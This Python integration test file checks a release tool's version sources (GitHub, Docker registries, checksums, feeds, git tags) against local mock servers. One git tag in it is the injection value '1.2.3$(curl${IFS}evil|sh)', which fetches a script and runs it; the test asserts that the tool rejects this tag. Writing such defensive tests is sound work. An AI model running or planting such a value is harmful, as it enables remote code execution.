"""Every source kind against real local servers (tests/world/server.py) and real git repos.

Requests go through the project's `HttpFetcher` over a real `httpx.AsyncClient` and real
sockets; git tags come from a repository made in `tmp_path` and listed over `file://`.
"""

from __future__ import annotations

import asyncio
import datetime as dt
import hashlib
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any, TypeVar
from urllib.parse import parse_qs, urlsplit

import git
import httpx
import pytest
from world.server import RecordedRequest, Reply, UpstreamServer

from release.manifest.load import load_manifest
from release.manifest.model import (
    Archive,
    Checksum,
    ChecksumKind,
    Component,
    Upstream,
    UpstreamKind,
)
from release.refresh.decide import Status, choose
from release.upstream.checksums import archive_sha256
from release.upstream.errors import PermanentUpstreamError
from release.upstream.feeds import NodeDist, PostgresVersions
from release.upstream.github import GithubReleases, GithubTags
from release.upstream.gittags import GitTags
from release.upstream.http import FetchSettings, GitHubAuth, HttpFetcher
from release.upstream.index import HttpIndex
from release.upstream.interface import Listing
from release.upstream.registry import (
    DOCKER_MANIFEST_LIST,
    MANIFEST_ACCEPT,
    OCI_INDEX,
    DockerHub,
    Registry,
    image_digest,
    registry_for,
)
from release.upstream.sources import Endpoints, source_for
from release.versioning import Version

pytestmark = pytest.mark.integration

REPO = Path(__file__).resolve().parents[3]
MANIFEST = load_manifest(REPO / "versions.yaml").manifest
TODAY = dt.date(2026, 8, 21)
T = TypeVar("T")


def component(name: str) -> Component:
    found = MANIFEST.component(name)
    assert found is not None
    return found


def fetch(call: Callable[[HttpFetcher], Awaitable[T]], *, github: GitHubAuth | None = None) -> T:
    """Run `call` with the project's fetcher over a real client (no proxies from the env)."""

    async def main() -> T:
        async with httpx.AsyncClient(trust_env=False) as client:
            fetcher = HttpFetcher(client, settings=FetchSettings(max_attempts=1), github=github)
            return await call(fetcher)

    return asyncio.run(main())


def versions(listing: Listing) -> list[str]:
    return sorted((r.version for r in listing.releases), key=lambda v: [int(p) for p in v.split(".")])


def gh_release(tag: str, published: str, *, prerelease: bool = False, draft: bool = False,
               branch: str = "main") -> dict[str, Any]:
    return {
        "url": "https://api.github.com/repos/asterisk/asterisk/releases/290000001",
        "html_url": f"https://github.com/asterisk/asterisk/releases/tag/{tag}",
        "id": 290000001, "node_id": "RE_kwDOAAAAAc4RSnAB", "tag_name": tag,
        "target_commitish": branch, "name": f"Asterisk Release {tag}", "draft": draft,
        "immutable": False, "prerelease": prerelease, "created_at": published,
        "updated_at": published, "published_at": published,
        "author": {"login": "asteriskteam", "id": 1, "type": "User", "site_admin": False},
        "assets": [], "tarball_url": f"https://api.github.com/repos/asterisk/asterisk/tarball/{tag}",
        "body": f"## Change Log for Release asterisk-{tag}\n",
    }


# --- GitHub ------------------------------------------------------------------------------------


def test_github_releases_over_three_pages_never_asks_for_latest(
    upstream_server: UpstreamServer,
) -> None:
    api = upstream_server.url
    first = "/repos/asterisk/asterisk/releases?per_page=100"
    second = "/repositories/24001/releases?per_page=100&page=2"
    third = "/repositories/24001/releases?per_page=100&page=3"
    same_day = "2026-08-20T14:05:02Z"  # every branch released together
    upstream_server.route("GET", first, json=[
        gh_release("23.6.0-rc1", "2026-09-09T15:00:00Z", prerelease=True, branch="releases/23"),
        gh_release("22.12.0", "2026-09-09T15:00:00Z", draft=True, branch="releases/22"),
        gh_release("certified-22.8-cert4", "2026-08-07T15:00:00Z",
                   branch="releases/certified-22.8"),
    ], headers={"Link": f'<{api}{second}>; rel="next", <{api}{third}>; rel="last"'})
    upstream_server.route("GET", second, json=[
        gh_release("23.5.0", same_day, branch="releases/23"),
        gh_release("22.11.0", same_day, branch="releases/22"),
        gh_release("21.12.4", same_day, branch="releases/21"),
        gh_release("20.21.0", same_day, branch="releases/20"),
    ], headers={"Link": f'<{api}{first}>; rel="prev", <{api}{third}>; rel="next"'})
    upstream_server.route("GET", third, json=[
        gh_release("22.11.0-rc1", "2026-08-07T15:00:00Z", prerelease=True),
        gh_release("22.10.1", "2026-06-25T14:05:02Z"),
        gh_release("1.2.26-netsec", "2008-01-01T00:00:00Z"),
    ], headers={"Link": f'<{api}{first}>; rel="first"'})
    # GitHub's "latest" sorts by the tagged commit's date: here an older branch.
    upstream_server.route("GET", "/repos/asterisk/asterisk/releases/latest",
                          json=gh_release("20.21.0", same_day))

    comp = component("asterisk")
    listing = fetch(lambda f: GithubReleases(api_url=api).list_releases(comp, f))

    assert versions(listing) == ["20.21.0", "21.12.4", "22.10.1", "22.11.0", "23.5.0"]
    assert {r.published for r in listing.releases if r.version != "22.10.1"} == {same_day}
    assert upstream_server.hits("/repos/asterisk/asterisk/releases/latest") == 0
    assert [r.target for r in upstream_server.requests] == [first, second, third]
    result = choose(comp, listing, today=TODAY)
    assert (result.status, result.candidate, result.newest) == (Status.UPDATE, "22.11.0", "23.5.0")


def test_github_tags_over_three_pages_with_a_token_for_the_api_only(
    upstream_server: UpstreamServer,
) -> None:
    api = upstream_server.url
    tags = (
        [f"mr26.{m}.1.{p}" for m in range(3) for p in range(1, 20)]
        + [f"mr13.5.1.{p}" for p in range(1, 27)]
        + [f"mr12.5.1.{p}" for p in range(1, 56)]
        + [f"mr14.1.1.{p}" for p in range(1, 22)]
        + ["mr13.1.1", "mr13.5.1.26-broken", "debian/13.5.1.25"]
        + [f"mr11.5.1.{p}" for p in range(1, 54)]
    )
    pages = [tags[i:i + 100] for i in range(0, len(tags), 100)]
    assert len(pages) == 3
    targets = ["/repos/sipwise/rtpengine/tags?per_page=100"] + [
        f"/repositories/9000/tags?per_page=100&page={n}" for n in (2, 3)
    ]
    for number, (target, names) in enumerate(zip(targets, pages, strict=True)):
        headers = {"Link": f'<{api}{targets[number + 1]}>; rel="next"'} if number < 2 else {}
        upstream_server.route("GET", target, headers=headers, json=[
            {"name": n, "commit": {"sha": "6b19a854710ff2c81070f109f35434cd20e40115"}}
            for n in names
        ])
    github = GitHubAuth(api_url=api, token="ghs_exampletoken")
    listing = fetch(lambda f: GithubTags(api_url=api).list_releases(component("rtpengine"), f),
                    github=github)
    found = versions(listing)
    assert len(found) == 57 + 26 + 55 + 21 + 53
    assert "13.5.1.26" in found
    assert "13.1.1" not in found
    assert [r.target for r in upstream_server.requests] == targets
    assert {r.headers.get("authorization") for r in upstream_server.requests} == {
        "Bearer ghs_exampletoken"
    }


def test_a_next_link_to_another_origin_is_refused(upstream_server: UpstreamServer) -> None:
    # 127.0.0.1 and localhost on the same port are two origins.
    other = f"http://localhost:{upstream_server.port}/repos/a/b/tags?page=2"
    upstream_server.route("GET", "/repos/a/b/tags?per_page=100", json=[{"name": "6.1.4"}],
                          headers={"Link": f'<{other}>; rel="next"'})
    comp = replace(component("kamailio"), upstream=Upstream(kind=UpstreamKind.GITHUB_TAGS,
                                                            repo="a/b"))
    with pytest.raises(PermanentUpstreamError, match="refused cross-origin pagination link"):
        fetch(lambda f: GithubTags(api_url=upstream_server.url).list_releases(comp, f))
    assert upstream_server.hits("/repos/a/b/tags") == 1


# --- checksums -----------------------------------------------------------------------------------

ARCHIVE = b"\x1f\x8b\x08\x00 asterisk 22.11.0 source tarball bytes"
ARCHIVE_SHA = hashlib.sha256(ARCHIVE).hexdigest()


def with_archive(name: str, url: str, kind: ChecksumKind, checksum_url: str | None = None,
                 asset: str | None = None) -> Component:
    return replace(component(name), archive=Archive(
        url=url, sha256=None, checksum=Checksum(kind=kind, url=checksum_url, asset=asset)
    ))


def test_checksum_of_every_kind(upstream_server: UpstreamServer) -> None:
    base = upstream_server.url
    releases = "/pub/telephony/asterisk/releases"
    upstream_server.route("GET", f"{releases}/asterisk-22.11.0.tar.gz", body=ARCHIVE)
    upstream_server.route("GET", f"{releases}/asterisk-22.11.0.sha256",
                          text=f"{ARCHIVE_SHA}  asterisk-22.11.0.tar.gz\n")
    asterisk = with_archive("asterisk", f"{base}{releases}/asterisk-{{version}}.tar.gz",
                            ChecksumKind.FILE, f"{base}{releases}/asterisk-{{version}}.sha256")
    kamailio = with_archive("kamailio", f"{base}{releases}/asterisk-{{version}}.tar.gz",
                            ChecksumKind.COMPUTE)
    upstream_server.route("GET", "/dist/v24.21.0/SHASUMS256.txt", text="".join(
        f"{h}  {n}\n" for h, n in [
            ("1" * 64, "node-v24.21.0-darwin-arm64.tar.gz"),
            (ARCHIVE_SHA, "node-v24.21.0.tar.xz"),
            ("2" * 64, "node-v24.21.0-linux-x64.tar.xz"),
        ]))
    node = with_archive("node", f"{base}/dist/v{{version}}/node-v{{version}}.tar.xz",
                        ChecksumKind.FILE, f"{base}/dist/v{{version}}/SHASUMS256.txt")
    upstream_server.route("GET", "/redis/redis-hashes/master/README", text=(
        f"hash redis-7.4.11.tar.gz sha256 {ARCHIVE_SHA} "
        "http://download.redis.io/releases/redis-7.4.11.tar.gz\n"
        f"hash redis-7.2.16.tar.gz sha256 {'3' * 64} "
        "http://download.redis.io/releases/redis-7.2.16.tar.gz\n"
    ))
    redis = with_archive("redis", f"{base}/releases/redis-{{version}}.tar.gz",
                         ChecksumKind.HASHES_README, f"{base}/redis/redis-hashes/master/README")
    upstream_server.route("GET", "/repos/squid-cache/squid/releases/tags/SQUID_7_7", json={
        "tag_name": "SQUID_7_7", "assets": [
            {"name": "squid-7.7.tar.xz.asc", "digest": None},
            {"name": "squid-7.7.tar.xz", "digest": f"sha256:{ARCHIVE_SHA}"},
        ]})

    async def every(fetcher: HttpFetcher) -> list[str]:
        return [
            await archive_sha256(asterisk, Version("22.11.0"), fetcher, max_bytes=1024),
            await archive_sha256(kamailio, Version("22.11.0"), fetcher, max_bytes=1024),
            await archive_sha256(node, Version("24.21.0"), fetcher, max_bytes=1024),
            await archive_sha256(redis, Version("7.4.11"), fetcher, max_bytes=1024),
            await archive_sha256(component("squid"), Version("7.7"), fetcher, max_bytes=1024,
                                 github_api_url=base),
        ]

    assert fetch(every) == [ARCHIVE_SHA] * 5


def test_the_current_symlink_sums_file_names_another_file(upstream_server: UpstreamServer) -> None:
    base = f"{upstream_server.url}/pub/telephony/asterisk"
    upstream_server.route("GET", "/pub/telephony/asterisk/asterisk-22-current.sha256",
                          text=f"{ARCHIVE_SHA}  asterisk-22.11.0.tar.gz\n")
    current = with_archive("asterisk", f"{base}/asterisk-22-current.tar.gz", ChecksumKind.FILE,
                           f"{base}/asterisk-22-current.sha256")
    with pytest.raises(PermanentUpstreamError) as caught:
        fetch(lambda f: archive_sha256(current, Version("22.11.0"), f, max_bytes=1024))
    assert caught.value.message == (
        f"{base}/asterisk-22-current.sha256: the checksum is for 'asterisk-22.11.0.tar.gz', "
        "not for 'asterisk-22-current.tar.gz'"
    )


# --- Docker Hub and registries --------------------------------------------------------------------


def hub_tag(name: str, media_type: str, digest: str) -> dict[str, Any]:
    return {"creator": 1156886, "id": 604964868, "images": [], "name": name,
            "last_updated": "2026-08-14T05:14:48Z", "tag_last_pushed": "2026-08-14T05:14:48Z",
            "media_type": media_type, "content_type": "image", "digest": digest, "v2": True}


def test_docker_hub_pages_follow_next_on_the_same_origin(upstream_server: UpstreamServer) -> None:
    hub = upstream_server.url
    path = "/v2/namespaces/library/repositories/python/tags"
    legacy = "/v2/repositories/library/python/tags"
    upstream_server.route("GET", f"{path}?page_size=100&name=-slim-trixie", json={
        "count": 5, "previous": None,
        "next": f"{hub}{legacy}?page=2&page_size=100&name=-slim-trixie",
        "results": [hub_tag("3.14.7-slim-trixie", OCI_INDEX, "sha256:" + "a" * 64),
                    hub_tag("3.15.0rc1-slim-trixie", OCI_INDEX, "sha256:" + "b" * 64)]})
    upstream_server.route("GET", f"{legacy}?page=2&page_size=100&name=-slim-trixie", json={
        "count": 5, "previous": None,
        "next": f"{hub}{legacy}?page=3&page_size=100&name=-slim-trixie",
        "results": [hub_tag("3.14.6-slim-trixie", DOCKER_MANIFEST_LIST, "sha256:" + "c" * 64)]})
    upstream_server.route("GET", f"{legacy}?page=3&page_size=100&name=-slim-trixie", json={
        "count": 5, "previous": None, "next": None,
        "results": [hub_tag("3.13.15-slim-trixie", DOCKER_MANIFEST_LIST, "sha256:" + "d" * 64),
                    hub_tag("3.14-slim-trixie", OCI_INDEX, "sha256:" + "e" * 64)]})
    listing = fetch(lambda f: DockerHub(hub_url=hub).list_releases(component("python"), f))
    assert versions(listing) == ["3.13.15", "3.14.6", "3.14.7"]
    assert len(upstream_server.requests) == 3


def test_docker_hub_next_to_another_origin_is_refused(upstream_server: UpstreamServer) -> None:
    upstream_server.route("GET", "/v2/namespaces/signoz/repositories/zookeeper/tags", json={
        "next": f"http://localhost:{upstream_server.port}/v2/x?page=2", "results": []})
    with pytest.raises(PermanentUpstreamError, match="refused cross-origin pagination link"):
        fetch(lambda f: DockerHub(hub_url=upstream_server.url).list_releases(
            component("zookeeper"), f))
    assert len(upstream_server.requests) == 1


TOKEN = "eyJhbGciOiJSUzI1NiJ9.eyJhY2Nlc3MiOltdfQ.c2lnbmF0dXJl"


def bearer_guard(auth_url: str, ok: Callable[[RecordedRequest], Reply]) -> Callable[
    [RecordedRequest], Reply
]:
    """A registry route: 401 with a Bearer challenge unless the request carries our token."""

    def handle(request: RecordedRequest) -> Reply:
        if request.headers.get("authorization") != f"Bearer {TOKEN}":
            name = request.path.removeprefix("/v2/").rsplit("/", 2)[0]
            challenge = (f'Bearer realm="{auth_url}/token",service="registry.docker.io",'
                         f'scope="repository:{name}:pull"')
            return Reply.of_json({"errors": [{"code": "UNAUTHORIZED"}]}, status=401,
                                 headers={"WWW-Authenticate": challenge})
        return ok(request)

    return handle


def token_endpoint(request: RecordedRequest) -> Reply:
    query = parse_qs(urlsplit(request.target).query)
    if query.get("service") != ["registry.docker.io"] or "scope" not in query:
        return Reply.of_json({"details": "bad request"}, status=400)
    return Reply.of_json({"token": TOKEN, "access_token": TOKEN, "expires_in": 300,
                          "issued_at": "2026-08-21T10:00:00.000000000Z"})


def test_registry_tags_with_the_bearer_token_flow(upstream_server: UpstreamServer) -> None:
    with UpstreamServer() as auth:
        auth.route_handler("GET", "/token", token_endpoint)

        def tags_page(request: RecordedRequest) -> Reply:
            if "last=" not in request.target:
                link = '</v2/library/python/tags/list?last=3.14.6-slim-trixie&n=1000>; rel="next"'
                return Reply.of_json({"name": "library/python", "tags": [
                    "3", "3.14.5-slim-trixie", "3.14.6-slim-trixie"]}, headers={"Link": link})
            return Reply.of_json({"name": "library/python", "tags": [
                "3.14.7-slim-trixie", "3.15.0rc1-slim-trixie", "latest"]})

        upstream_server.route_handler("GET", "/v2/library/python/tags/list",
                                      bearer_guard(auth.url, tags_page))
        comp = replace(component("python"), upstream=Upstream(
            kind=UpstreamKind.REGISTRY, image="library/python", registry="docker.io"))
        source = source_for(UpstreamKind.REGISTRY,
                            Endpoints(docker_hub_registry=upstream_server.url))
        listing = fetch(lambda f: source.list_releases(comp, f))

        assert versions(listing) == ["3.14.5", "3.14.6", "3.14.7"]
        assert [(r.target, r.headers.get("authorization")) for r in upstream_server.requests] == [
            ("/v2/library/python/tags/list?n=1000", None),
            ("/v2/library/python/tags/list?n=1000", f"Bearer {TOKEN}"),
            ("/v2/library/python/tags/list?last=3.14.6-slim-trixie&n=1000", f"Bearer {TOKEN}"),
        ]
        # The realm is another host: it is asked once and never sees a token.
        assert [r.target for r in auth.requests] == [
            "/token?service=registry.docker.io&scope=repository%3Alibrary%2Fpython%3Apull"
        ]
        assert all("authorization" not in r.headers for r in auth.requests)


def test_registry_source_with_an_explicit_registry_url(upstream_server: UpstreamServer) -> None:
    upstream_server.route("GET", "/v2/delphi/kamailio/tags/list",
                          json={"name": "delphi/kamailio", "tags": ["6.1.4", "6.1.3", "latest"]})
    comp = replace(component("kamailio"), upstream=Upstream(
        kind=UpstreamKind.REGISTRY, image="delphi/kamailio", registry="localhost:5000"))
    source = Registry(registries={"localhost:5000": upstream_server.url})
    listing = fetch(lambda f: source.list_releases(comp, f))
    assert versions(listing) == ["6.1.3", "6.1.4"]


INDEX_DIGEST = "sha256:74aac81b6dd30314dc88febf23295b1b352b95ad39bf34733850384b8b6c2807"
AMD64_DIGEST = "sha256:" + "9" * 64


def test_image_digest_asks_for_the_index(upstream_server: UpstreamServer) -> None:
    with UpstreamServer() as auth:
        auth.route_handler("GET", "/token", token_endpoint)

        def manifest_head(request: RecordedRequest) -> Reply:
            # A registry answers with one platform's manifest unless the index types are asked.
            accept = request.headers.get("accept", "")
            if OCI_INDEX in accept:
                return Reply(headers={"Docker-Content-Digest": INDEX_DIGEST,
                                      "Content-Type": OCI_INDEX})
            return Reply(headers={"Docker-Content-Digest": AMD64_DIGEST,
                                  "Content-Type": "application/vnd.oci.image.manifest.v1+json"})

        target = "/v2/library/debian/manifests/trixie-20260803-slim"
        upstream_server.route_handler("HEAD", target, bearer_guard(auth.url, manifest_head))
        base, path = registry_for("debian", docker_hub=upstream_server.url)
        digest = fetch(lambda f: image_digest(f, base, path, "trixie-20260803-slim"))

        assert digest == INDEX_DIGEST
        assert [(r.method, r.target) for r in upstream_server.requests] == [("HEAD", target)] * 2
        assert {r.headers["accept"] for r in upstream_server.requests} == {MANIFEST_ACCEPT}


def test_image_digest_falls_back_to_hashing_the_manifest(upstream_server: UpstreamServer) -> None:
    manifest = (b'{"schemaVersion":2,"mediaType":"application/vnd.oci.image.index.v1+json",'
                b'"manifests":[]}')
    target = "/v2/signoz/signoz/manifests/v0.138.0"
    upstream_server.route("HEAD", target, headers={"Content-Type": OCI_INDEX})
    upstream_server.route("GET", target, body=manifest, headers={"Content-Type": OCI_INDEX})
    base, path = registry_for("signoz/signoz", registries={"docker.io": upstream_server.url})
    digest = fetch(lambda f: image_digest(f, base, path, "v0.138.0"))
    assert digest == "sha256:" + hashlib.sha256(manifest).hexdigest()
    assert [r.method for r in upstream_server.requests] == ["HEAD", "GET"]


# --- directory indexes and feeds ----------------------------------------------------------------


def test_http_index(upstream_server: UpstreamServer) -> None:
    root = "/pub/telephony/asterisk/releases/"
    upstream_server.route("GET", root, headers={"Content-Type": "text/html"}, text="\n".join([
        "<html><body><h1>Index of /pub/telephony/asterisk/releases</h1><pre>",
        '<a href="?C=N;O=D">Name</a> <a href="../">Parent Directory</a>',
        '<a href="asterisk-22-current.tar.gz">asterisk-22-current.tar.gz</a>',
        '<a href="asterisk-22-current.sha256">asterisk-22-current.sha256</a>',
        '<a href="asterisk-22.11.0.tar.gz">asterisk-22.11.0.tar.gz</a>  20-Aug-2026 14:06  26M',
        '<a href="asterisk-22.11.0.tar.gz.asc">asterisk-22.11.0.tar.gz.asc</a>',
        '<a href="asterisk-22.11.0.sha256">asterisk-22.11.0.sha256</a>',
        f'<a href="{upstream_server.url}{root}asterisk-22.10.1.tar.gz">22.10.1</a>',
        f'<a href="{root}asterisk-23.5.0.tar.gz">23.5.0</a>',
        '<a href="asterisk-23.6.0-rc1.tar.gz">asterisk-23.6.0-rc1.tar.gz</a>',
        "</pre></body></html>",
    ]))
    # Like Apache: the directory without its slash redirects to the one with it.
    upstream_server.route("GET", root.rstrip("/"), status=301, headers={"Location": root})
    comp = replace(component("asterisk"), upstream=Upstream(
        kind=UpstreamKind.HTTP_INDEX, url=upstream_server.url + root.rstrip("/"),
        entry="asterisk-{version}.tar.gz"))
    listing = fetch(lambda f: HttpIndex().list_releases(comp, f))
    assert versions(listing) == ["22.10.1", "22.11.0", "23.5.0"]
    assert listing.rejected == ()


def test_node_and_postgres_feeds(upstream_server: UpstreamServer) -> None:
    upstream_server.route("GET", "/dist/index.json", json=[
        {"version": "v26.7.0", "date": "2026-08-18", "files": ["src"], "lts": False,
         "security": False},
        {"version": "v24.21.0", "date": "2026-09-07", "files": ["src"], "lts": "Krypton",
         "security": True},
        {"version": "v24.19.0", "date": "2026-08-12", "files": ["src"], "lts": "Krypton"},
        {"version": "v22.23.2", "date": "2026-07-15", "files": ["src"], "lts": "Jod"},
    ])
    upstream_server.route("GET", "/versions.json", json=[
        {"current": False, "eolDate": "2021-11-11", "latestMinor": "24", "major": "9.6",
         "relDate": "2021-11-11", "supported": False},
        {"current": False, "eolDate": "2029-11-08", "latestMinor": "12", "major": "17",
         "relDate": "2026-11-13", "supported": True},
        {"current": True, "eolDate": "2030-11-14", "latestMinor": "7", "major": "18",
         "relDate": "2026-11-13", "supported": True},
    ])
    node = replace(component("node"), upstream=replace(
        component("node").upstream, url=f"{upstream_server.url}/dist/index.json"))
    postgres = replace(component("postgresql"), upstream=replace(
        component("postgresql").upstream, url=f"{upstream_server.url}/versions.json"))

    async def both(fetcher: HttpFetcher) -> tuple[Listing, Listing]:
        return (await NodeDist().list_releases(node, fetcher),
                await PostgresVersions().list_releases(postgres, fetcher))

    node_listing, pg_listing = fetch(both)
    assert [(r.version, r.lts) for r in node_listing.releases] == [
        ("26.7.0", False), ("24.21.0", True), ("24.19.0", True), ("22.23.2", True)
    ]
    assert choose(node, node_listing, today=TODAY).candidate == "24.21.0"
    assert [(r.version, r.tag) for r in pg_listing.releases] == [
        ("17.12", "REL_17_12"), ("18.7", "REL_18_7")
    ]
    assert choose(postgres, pg_listing, today=TODAY).candidate == "17.12"


# --- git tags of a real repository --------------------------------------------------------------


def make_repo(path: Path, tags: list[str], monkeypatch: pytest.MonkeyPatch) -> str:
    for key in ("GIT_AUTHOR_NAME", "GIT_COMMITTER_NAME"):
        monkeypatch.setenv(key, "Delphi Release Tests")
    for key in ("GIT_AUTHOR_EMAIL", "GIT_COMMITTER_EMAIL"):
        monkeypatch.setenv(key, "tests@delphi.invalid")
    repo = git.Repo.init(path)
    (path / "VERSION").write_text("6.1.4\n")
    repo.index.add(["VERSION"])
    repo.index.commit("kamailio 6.1.4")
    for tag in tags:
        if tag.startswith("6."):
            repo.create_tag(tag, message=f"Kamailio {tag}")  # annotated, like upstream's
        else:
            repo.create_tag(tag)
    repo.close()
    return path.as_uri()


def test_git_tags_of_a_real_repository(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    remote = make_repo(tmp_path / "kamailio", [
        "6.1.4", "6.1.3", "6.0.7", "5.8.8", "before_rpc_v2", "v0_8_14_rc1", "3.0_pre1",
        "5.1.10.1", "bigbang", "1.2.3$(curl${IFS}evil|sh)", "6.1.5-rc1",
    ], monkeypatch)
    comp = replace(component("kamailio"), upstream=Upstream(kind=UpstreamKind.GIT_TAGS,
                                                            url=remote))
    listing = fetch(lambda f: GitTags(timeout=30).list_releases(comp, f))
    assert versions(listing) == ["5.8.8", "6.0.7", "6.1.3", "6.1.4"]
    assert [r.tag for r in listing.rejected] == ["1.2.3$(curl${IFS}evil|sh)"]
    assert choose(comp, listing, today=TODAY).status is Status.CURRENT


def test_git_tags_run_beside_http_checks(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, upstream_server: UpstreamServer
) -> None:
    remote = make_repo(tmp_path / "r", ["6.1.4"], monkeypatch)
    upstream_server.route("GET", "/repos/kamailio/kamailio/tags", json=[{"name": "6.1.5"}])
    git_comp = replace(component("kamailio"), upstream=Upstream(kind=UpstreamKind.GIT_TAGS,
                                                                url=remote))

    async def together(fetcher: HttpFetcher) -> list[Listing]:
        endpoints = Endpoints(github_api_url=upstream_server.url)
        return list(await asyncio.gather(
            source_for(UpstreamKind.GIT_TAGS, endpoints).list_releases(git_comp, fetcher),
            source_for(UpstreamKind.GITHUB_TAGS, endpoints).list_releases(
                component("kamailio"), fetcher),
        ))

    from_git, from_api = fetch(together)
    assert (versions(from_git), versions(from_api)) == (["6.1.4"], ["6.1.5"])


def test_git_remote_that_does_not_exist(tmp_path: Path) -> None:
    remote = (tmp_path / "missing").as_uri()
    comp = replace(component("kamailio"), upstream=Upstream(kind=UpstreamKind.GIT_TAGS,
                                                            url=remote))
    with pytest.raises(PermanentUpstreamError) as caught:
        fetch(lambda f: GitTags().list_releases(comp, f))
    assert caught.value.message == (
        f"{remote}: git ls-remote failed: fatal: '{tmp_path / 'missing'}' "
        "does not appear to be a git repository"
    )
